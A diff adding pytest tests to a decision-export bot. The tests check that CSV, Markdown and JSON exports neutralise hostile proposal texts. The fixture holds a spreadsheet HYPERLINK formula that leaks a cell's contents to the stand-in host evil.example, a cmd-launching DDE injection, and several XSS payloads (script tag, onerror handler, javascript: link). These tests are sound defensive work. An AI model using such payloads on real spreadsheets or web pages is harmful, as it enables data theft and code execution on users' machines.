@@ -379,3 +379,55 @@ def test_the_cli_exports(log: Log, tmp_path: Path) -> None:
     assert done.stdout == ""
     text = out.read_text(encoding="utf-8")
     assert "## Circle council" in text and "garden" not in text
+
+
+# --------------------------------------------------------------------------- hostile texts
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+HTML = "<img src=x onerror=alert(1)> <script>alert(2)</script> [x](javascript:alert(3))"
+
+
+@pytest.fixture
+def hostile(tmp_path: Path, db_url: str) -> Iterator[Log]:
+    """Closed proposals whose texts attack spreadsheets and Markdown renderers."""
+    path = tmp_path / "circlebot.toml"
+    path.write_text(CONFIG.format(url=db_url), encoding="utf-8")
+    config = load_config(path)
+    repo = open_repository(config.storage.url)
+    clock = ManualClock(at(5, 10))
+    core = Core(repo, config.circles, clock)
+    core.start()
+    d = Driver(core, clock)
+    d.command(at(5, 10), "ana", f"propose {FORMULA}")
+    d.command(at(5, 10, 1), "ana", "propose -2+3+cmd|' /C calc'!A0")
+    d.command(at(5, 10, 2), "ana", "propose @SUM(1+1)")
+    d.command(at(5, 10, 3), "ana", f"propose {HTML}\n# not a heading\n| not | a table |")
+    for pid in (1, 2, 3, 4):
+        d.command(at(5, 11, pid), "ana", f"withdraw {pid}")
+    yield Log(config, path, repo, core)
+    repo.engine.dispose()
+
+
+def test_csv_cells_never_start_a_formula(hostile: Log) -> None:
+    text = export_decisions(hostile.repo, hostile.config.circles, "csv")
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    texts = [dict(zip(rows[0], row, strict=True))["text"] for row in rows[1:]]
+    assert texts[:3] == [f"'{FORMULA}", "'-2+3+cmd|' /C calc'!A0", "'@SUM(1+1)"]
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+def test_markdown_shows_html_and_links_as_text(hostile: Log) -> None:
+    text = export_decisions(hostile.repo, hostile.config.circles, "md")
+    for active in ("<img", "<script", "](javascript", "\n> # not", "\n> | not"):
+        assert active not in text
+    assert "&lt;img src=x onerror=alert\\(1\\)&gt;" in text
+    assert "\\[x\\]\\(javascript:alert\\(3\\)\\)" in text
+    assert "> \\# not a heading" in text
+
+
+def test_json_keeps_hostile_texts_as_data(hostile: Log) -> None:
+    data = json.loads(export_decisions(hostile.repo, hostile.config.circles, "json"))
+    assert [d["text"] for d in data][:3] == [FORMULA, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"]
+    assert data[3]["text"].startswith(HTML)
